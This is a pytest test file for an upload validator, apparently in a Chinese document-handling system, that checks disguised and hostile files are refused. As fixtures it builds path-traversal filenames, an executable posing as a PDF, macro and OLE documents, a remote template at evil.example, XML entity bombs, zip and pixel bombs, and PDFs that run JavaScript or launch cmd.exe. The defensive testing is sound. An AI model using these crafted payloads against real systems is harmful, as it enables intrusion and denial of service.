"""What comes in by upload is what it says it is, or is refused with the rule it breaks."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from mingting.commons.files import packages
from mingting.commons.files.kinds import ATTACHMENTS, IMAGES, Unacceptable, accept, check_size, sniff
from tests.rules import sample_office
from tests.rules.sample_pdfs import Page, Pdf

MEBIBYTE = 1024 * 1024


def pdf_with(catalogue: str = "") -> bytes:
    return Pdf([Page(words=[(72, 100, 16, "通知")])], catalogue=catalogue).bytes()


class TestGoodFiles:
    @pytest.mark.parametrize(
        ("data", "name", "kind"),
        [
            (sample_office.plain_word("通知"), "通知.docx", "docx"),
            (sample_office.workbook(), "表.XLSX", "xlsx"),
            (sample_office.zipped(sample_office.PRESENTATION), "讲稿.pptx", "pptx"),
            (
                sample_office.zipped({"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<Document/>"}),
                "公文.ofd",
                "ofd",
            ),
            (pdf_with(), "公告.pdf", "pdf"),
            (sample_office.png(), "图.png", "png"),
            (sample_office.jpeg(), "图.jpeg", "jpg"),
            (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", "片.mp4", "mp4"),
            (b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm", "片.webm", "webm"),
            (b"ID3\x04\x00\x00\x00\x00\x00\x00", "音.mp3", "mp3"),
            ("姓名,单位\n".encode("gb18030"), "名单.csv", "csv"),
            ("各镇街：".encode(), "说明.txt", "txt"),
        ],
    )
    def test_are_known_by_content_and_accepted(self, data: bytes, name: str, kind: str) -> None:
        facts = accept(data, name, ATTACHMENTS)
        assert facts.type == kind
        assert facts.faults == ()

    @pytest.mark.parametrize(
        ("stream", "name", "kind"), [("WordDocument", "旧.doc", "doc"), ("Workbook", "旧.xls", "xls")]
    )
    def test_of_the_old_binary_formats_are_recognised(self, stream: str, name: str, kind: str) -> None:
        data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + f"{stream}\0".encode("utf-16-le")
        assert sniff(data, name).type == kind
        with pytest.raises(Unacceptable, match="旧版"):
            accept(data, name, ATTACHMENTS)


class TestSize:
    def test_of_100_mb_is_refused_and_the_limit_is_named(self) -> None:
        with pytest.raises(Unacceptable, match="大小 100 MB，超过上传上限 50 MB") as refusal:
            accept(bytes(100 * MEBIBYTE), "大.pdf", ATTACHMENTS)
        assert refusal.value.field == "file"

    def test_can_be_refused_before_reading(self) -> None:
        with pytest.raises(Unacceptable, match="超过上传上限 10 MB"):
            check_size(11 * MEBIBYTE, "大.pdf", limit=10 * MEBIBYTE)

    def test_of_nothing_is_refused(self) -> None:
        with pytest.raises(Unacceptable, match="空文件"):
            accept(b"", "空.txt", ATTACHMENTS)


class TestDisguise:
    @pytest.mark.parametrize(
        ("data", "name", "said"),
        [
            (b"<html><body>hi</body></html>", "假.docx", "内容是网页"),
            (b"MZ\x90\x00" + bytes(200), "公告.pdf", "内容是可执行程序"),
            (b"MZ\x90\x00" + bytes(200), "公告.pdf.exe", "内容是可执行程序"),
            (
                b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
                "图.png",
                "SVG",
            ),
            (sample_office.png(), "图.jpg", "扩展名是“jpg”，内容却是PNG"),
            (sample_office.zipped({"a.txt": b"a"}), "包.docx", "内容是压缩包"),
            (sample_office.plain_word("x"), "表.xlsx", "扩展名是“xlsx”，内容却是Word"),
            (b"\x00\x01\x02\x03" * 50, "随便.txt", "无法识别"),
            (b"#!/bin/sh\necho hi\n", "说明.txt", "脚本程序"),
        ],
    )
    def test_is_seen_through(self, data: bytes, name: str, said: str) -> None:
        with pytest.raises(Unacceptable, match=said):
            accept(data, name, ATTACHMENTS)

    def test_of_a_gif_that_is_also_a_pdf(self) -> None:
        data = b"GIF89a/*%PDF-1.4\n" + bytes(40)
        with pytest.raises(Unacceptable, match="既是图片又是PDF"):
            accept(data, "图.gif", IMAGES)

    def test_of_a_picture_with_a_zip_behind_it(self) -> None:
        data = sample_office.png() + sample_office.zipped({"a.js": b"alert(1)"})
        with pytest.raises(Unacceptable, match="既是图片又是压缩包"):
            accept(data, "图.png", IMAGES)

    def test_of_a_document_with_something_before_it(self) -> None:
        data = b"PK\x03\x04junk" + sample_office.plain_word("x")
        assert any("冒充" in fault or "损坏" in fault for fault in sniff(data, "a.docx").faults)

    def test_of_a_type_not_wanted_here(self) -> None:
        with pytest.raises(Unacceptable, match="此处只收 png、jpg、gif、webp"):
            accept(pdf_with(), "公告.pdf", IMAGES)


class TestNames:
    @pytest.mark.parametrize(
        ("name", "said"),
        [
            ("../../etc/图.png", "路径符号"),
            ("..\\图.png", "路径符号"),
            ("图\u202egnp.png", "不可见字符"),
            ("图\x00.png", "不可见字符"),
            ("长" * 160 + ".png", "1 至 150 字"),
        ],
    )
    def test_that_mislead_are_refused(self, name: str, said: str) -> None:
        with pytest.raises(Unacceptable, match=said):
            accept(sample_office.png(), name, IMAGES)


class TestPackages:
    def test_with_macros_are_refused(self) -> None:
        data = sample_office.rezipped(
            sample_office.plain_word("x"), added={"word/vbaProject.bin": b"\xd0\xcf"}
        )
        assert sniff(data, "a.docx").has_macros
        with pytest.raises(Unacceptable, match="含有宏"):
            accept(data, "a.docx", ATTACHMENTS)

    def test_that_fetch_a_template_from_elsewhere_are_refused(self) -> None:
        relation = (
            b'<Relationship Id="rEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        data = sample_office.rezipped(
            sample_office.plain_word("x"),
            changed={"word/_rels/document.xml.rels": (b"</Relationships>", relation)},
        )
        with pytest.raises(Unacceptable, match=r"取用外部内容（attachedTemplate"):
            accept(data, "a.docx", ATTACHMENTS)

    def test_with_ordinary_links_are_accepted(self) -> None:
        relation = (
            b'<Relationship Id="rLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>'
        )
        data = sample_office.rezipped(
            sample_office.plain_word("x"),
            changed={"word/_rels/document.xml.rels": (b"</Relationships>", relation)},
        )
        assert accept(data, "a.docx", ATTACHMENTS).external == ()

    def test_with_ole_objects_are_refused(self) -> None:
        data = sample_office.rezipped(
            sample_office.plain_word("x"), added={"word/embeddings/oleObject1.bin": b"x"}
        )
        with pytest.raises(Unacceptable, match="内嵌 OLE"):
            accept(data, "a.docx", ATTACHMENTS)

    @pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "C:/evil.xml", "word\\..\\evil.xml"])
    def test_with_names_outside_are_refused(self, name: str) -> None:
        data = sample_office.rezipped(sample_office.plain_word("x"), added={name: b"<a/>"})
        assert any("指向包外路径" in fault for fault in sniff(data, "a.docx").faults)

    def test_with_nested_entities_are_refused(self) -> None:
        bomb = (
            b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w>&c;</w>'
        )
        data = sample_office.rezipped(sample_office.plain_word("x"), added={"customXml/item9.xml": bomb})
        with pytest.raises(Unacceptable, match="DOCTYPE"):
            accept(data, "a.docx", ATTACHMENTS)

    def test_with_entities_in_utf_16_are_refused(self) -> None:
        bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "ha">]><w>&a;</w>'.encode(
            "utf-16"
        )
        data = sample_office.rezipped(sample_office.plain_word("x"), added={"customXml/item9.xml": bomb})
        with pytest.raises(Unacceptable, match="DOCTYPE"):
            accept(data, "a.docx", ATTACHMENTS)

    def test_that_want_a_password_are_refused(self) -> None:
        data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage\0".encode("utf-16-le")
        assert sniff(data, "a.docx").encrypted


class TestBombs:
    def test_that_declare_themselves_are_not_unpacked(self) -> None:
        data = sample_office.rezipped(
            sample_office.plain_word("x"), added={"word/big.bin": bytes(20 * MEBIBYTE)}
        )
        with pytest.raises(Unacceptable, match="压缩比超过上限 200 倍"):
            accept(data, "a.docx", ATTACHMENTS)

    def test_of_many_members_are_refused(self) -> None:
        data = sample_office.zipped({f"m{n}": b"" for n in range(packages.MEMBERS_LIMIT + 1)})
        assert any("超过上限 5000 个" in fault for fault in sniff(data, "a.zip").faults)

    def test_whose_total_is_too_much_are_refused(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(packages, "UNPACKED_LIMIT", 10_000)
        assert any("解压后将达" in fault for fault in sniff(sample_office.plain_word("x"), "a.docx").faults)

    def test_that_lie_about_their_size_are_found_by_streaming(self) -> None:
        data = lying_zip(real=bytes(3 * MEBIBYTE), declared=1000)
        assert any("与声明的大小或校验值不符" in fault for fault in sniff(data, "a.zip").faults)

    def test_whose_members_overlap_are_refused(self) -> None:
        data = overlapping_zip()
        assert any("重叠" in fault for fault in sniff(data, "a.zip").faults)

    def test_of_pixels_are_refused(self) -> None:
        header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
        chunk = b"IHDR" + header
        data = (
            b"\x89PNG\r\n\x1a\n"
            + struct.pack(">I", 13)
            + chunk
            + struct.pack(">I", zlib.crc32(chunk))
            + sample_office.png()[33:]
        )
        with pytest.raises(Unacceptable, match="万像素"):
            accept(data, "图.png", IMAGES)


class TestPdf:
    def test_with_a_script_is_refused(self) -> None:
        data = pdf_with("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
        with pytest.raises(Unacceptable, match="JavaScript"):
            accept(data, "a.pdf", ATTACHMENTS)

    def test_that_starts_a_program_is_refused(self) -> None:
        data = pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>")
        with pytest.raises(Unacceptable, match="启动外部程序"):
            accept(data, "a.pdf", ATTACHMENTS)

    def test_that_is_broken_is_refused(self) -> None:
        with pytest.raises(Unacceptable, match="已损坏"):
            accept(b"%PDF-1.7\nnothing here", "a.pdf", ATTACHMENTS)


def lying_zip(real: bytes, declared: int) -> bytes:
    """A zip whose directory and local header both understate a member's size."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("a.bin", real)
    return out.getvalue().replace(struct.pack("<I", len(real)), struct.pack("<I", declared))


def overlapping_zip() -> bytes:
    """Two directory entries that share one compressed member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("a.bin", b"x" * 500)
    data = out.getvalue()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    second = entry.replace(b"a.bin", b"b.bin")
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(entry) * 2, start, 0)
    return data[:start] + entry + second + end
